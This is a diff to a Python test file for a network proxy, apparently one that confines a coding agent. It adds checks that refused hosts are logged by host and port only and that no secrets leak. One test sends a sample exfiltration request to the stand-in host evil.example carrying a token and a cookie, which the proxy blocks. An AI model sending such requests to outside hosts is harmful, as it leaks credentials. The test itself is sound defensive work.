@@ -123,7 +123,9 @@ async def test_the_proxy_streams_and_holds_back_a_reader_that_does_not_read() ->
 # -- refused ------------------------------------------------------------------------------
 
 
-async def test_a_host_not_allowed_is_refused_recorded_and_never_resolved() -> None:
+async def test_a_host_not_allowed_is_refused_recorded_and_never_resolved(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
     asked: list[str] = []
 
     async def resolver(host: str, port: int) -> Resolved:
@@ -145,6 +147,11 @@ async def test_a_host_not_allowed_is_refused_recorded_and_never_resolved() -> No
     assert call.refused == ["evil.example:443", "pypi.org:22"]
     assert call.refused_count == 2
     assert asked == []
+    logged = [r.getMessage() for r in caplog.records if r.name == "spice.agent.coding.proxy"]
+    assert logged == [
+        "proxy refused evil.example:443: not an allowed host and port",
+        "proxy refused pypi.org:22: not an allowed host and port",
+    ]
 
 
 async def test_an_ip_literal_is_refused_unless_a_pattern_names_it() -> None:
@@ -223,6 +230,25 @@ async def test_refusals_are_kept_to_the_bound_and_counted_beyond_it() -> None:
     assert len(call.refused) == MAXIMUM_REFUSED_REPORTED
     assert call.refused[0] == "h0.example:443"
     assert call.refused_count == MAXIMUM_REFUSED_REPORTED + 3
+
+
+async def test_a_refused_plain_request_logs_its_host_and_port_only(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    call = await call_policy("pypi.org").open_call()
+    try:
+        head = (
+            b"GET http://evil.example/SECRET-PATH?token=SECRET HTTP/1.1\r\nCookie: SECRET\r\n\r\n"
+        )
+        reader, writer, status = await ask(call, head)
+        assert status.startswith(b"HTTP/1.1 403 ")
+        assert b"SECRET" not in await reader.read()
+        writer.close()
+    finally:
+        await call.close()
+    assert call.refused == ["evil.example:80"]
+    assert "SECRET" not in caplog.text
+    assert "evil.example:80" in caplog.text
 
 
 async def test_a_malformed_request_is_a_400_and_not_a_refused_host() -> None:
